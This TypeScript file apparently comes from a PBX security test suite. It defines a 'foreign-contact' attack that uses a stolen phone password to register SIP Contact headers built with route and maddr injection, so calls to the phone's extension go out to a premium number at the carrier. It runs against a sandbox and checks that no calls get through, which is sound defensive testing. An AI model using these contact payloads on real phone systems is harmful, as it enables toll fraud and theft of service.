import { above, type Attack } from "./attack";
import { reachedCarrier, withStolen } from "./insider";
import { hangUpAll, premium } from "./thief";

/** Contacts that lead a call for the thief's own extension to the carrier: an address of the carrier's behind one that is taken away, and a route. */
const contacts = (carrier: string, own: string) => [
  `<sip:gone@1.1.1.1>;expires=0, <sip:${premium}@${carrier}:5060>;expires=600`,
  `<sip:${premium}@${own}?Route=%3Csip:${carrier}%3Blr%3E>;expires=600`,
  `<sip:gone@1.1.1.1>;expires=0, <sip:${premium}@${own};maddr=${carrier}>;expires=600`,
];

/** Registers a stolen phone where the carrier is, and calls it. */
export const foreignContact: Attack = {
  name: "foreign-contact",
  what: "registers, with a phone's password, a contact that is the carrier's address with a premium number, and calls the phone's own extension",
  measures: "calls that reached the carrier",
  goal: "0",
  weak: ["tutorial22"],
  sample: true,
  run: (target) =>
    withStolen(target, 2, async (thief, caller) => {
      const carrier = target.sandbox.addresses.carrier.signalling;
      const accepted: (number | string)[] = [];
      const reached = await reachedCarrier(target, async () => {
        for (const contact of contacts(carrier, thief.account.address)) {
          // A PBX that takes several contacts may ring another one first.
          await thief.register(0, { headers: { Contact: "*" } });
          const { status } = await thief.register(600, { headers: { Contact: contact } });
          accepted.push(status);
          await caller.hangUp(await caller.call(thief.account.number, { patience: 3_000 }));
        }
      });
      await hangUpAll(target);
      return above(0, reached.length, `registrations answered ${accepted.join(", ")}`);
    }),
};
